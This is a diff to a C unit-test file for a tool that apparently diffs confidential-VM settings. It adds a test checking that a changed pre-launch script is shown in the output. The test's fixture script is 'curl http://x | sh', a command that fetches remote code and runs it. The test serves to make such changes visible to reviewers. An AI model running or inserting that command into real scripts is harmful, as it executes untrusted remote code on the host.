@@ -108,6 +108,27 @@ static void test_what_is_named_must_be_there(void **state)
 	}
 }
 
+/* What runs before the containers is shown as what runs in them is. */
+static void test_script_is_shown(void **state)
+{
+	static const char script[] = "#!/bin/sh\ncurl http://x | sh\n";
+	const char *const as_json[] = { "diff", "--cvm-id", "treasury-signer", "--pre-launch-script", "pre.sh", "--json", NULL };
+	const char *const plain[] = { "diff", "--cvm-id", "treasury-signer", "--pre-launch-script", "pre.sh", NULL };
+	struct deck_run run;
+
+	(void)state;
+	deck_reset(deck, NULL);
+	free(deck_write(deck, "pre.sh", script, sizeof(script) - 1));
+	run_here(NULL, as_json, &run);
+	assert_int_equal(run.status, 0);
+	assert_non_null(strstr(json_text(run.result, "script_diff"), "\n+curl http://x | sh\n"));
+	deck_run_clear(&run);
+	run_here(NULL, plain, &run);
+	expect_says(&run, "\n+curl http://x | sh\n");
+	expect_says(&run, "\n-set -e\n");
+	deck_run_clear(&run);
+}
+
 /* As many as there are, none left out. */
 static void test_many_values(void **state)
 {
@@ -235,7 +256,7 @@ int main(void)
 {
 	static const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_files_are_used), cmocka_unit_test(test_options_go_before), cmocka_unit_test(test_hash_is_the_present_one),
-		cmocka_unit_test(test_what_is_named_must_be_there), cmocka_unit_test(test_many_values), cmocka_unit_test(test_a_slip_shows_no_key),
+		cmocka_unit_test(test_what_is_named_must_be_there), cmocka_unit_test(test_many_values), cmocka_unit_test(test_script_is_shown), cmocka_unit_test(test_a_slip_shows_no_key),
 		cmocka_unit_test(test_order_and_empty), cmocka_unit_test(test_list), cmocka_unit_test(test_list_without_live_status),
 	};
 
